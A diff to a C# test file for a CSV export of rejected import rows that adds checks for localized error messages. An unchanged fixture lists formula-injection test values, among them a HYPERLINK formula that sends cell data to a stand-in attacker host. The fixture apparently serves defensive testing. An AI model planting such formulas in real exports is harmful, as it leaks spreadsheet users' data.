@@ -12,6 +12,7 @@ public sealed class RejectedRowsExportTests(DemoIngestApp app) : IClassFixture<D
 {
     private sealed record Status(Guid Id, Outcome? Report);
     private sealed record Outcome(bool Written, long RowsRejected, bool HasRejectedRows);
+    private sealed record Refusal(Dictionary<string, string[]> Errors);
 
     private static readonly string[] Formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "+1", "-2+3", "@SUM(1)"];
 
@@ -41,15 +42,19 @@ public sealed class RejectedRowsExportTests(DemoIngestApp app) : IClassFixture<D
     }
 
     [Fact]
-    public async Task A_wrong_separator_choice_is_a_400_naming_the_parameter()
+    public async Task A_wrong_separator_or_language_is_a_400_naming_the_field_in_the_readers_language()
     {
         var client = await app.AdministratorClientAsync();
         var id = await ImportAsync(client);
 
         var response = await client.GetAsync($"/api/imports/{id}/rejected.csv?csv=pipe");
+        var russian = await client.GetAsync($"/api/imports/{id}/rejected.csv?csv=pipe&lang=ru");
+        var language = await client.GetAsync($"/api/imports/{id}/rejected.csv?lang=de");
 
         Assert.Equal(System.Net.HttpStatusCode.BadRequest, response.StatusCode);
-        Assert.Contains("csv 'pipe' is not comma or semicolon", await response.Content.ReadAsStringAsync());
+        Assert.Equal("csv 'pipe' is not comma or semicolon.", (await response.Content.ReadFromJsonAsync<Refusal>())!.Errors["csv"][0]);
+        Assert.Equal("csv 'pipe' — не comma и не semicolon.", (await russian.Content.ReadFromJsonAsync<Refusal>())!.Errors["csv"][0]);
+        Assert.Equal("lang 'de' is not one of en, kk, ru.", (await language.Content.ReadFromJsonAsync<Refusal>())!.Errors["lang"][0]);
     }
 
     /// <summary>A budget-lines file whose bad rows carry formulas in text fields, imported accepting the valid rows.</summary>
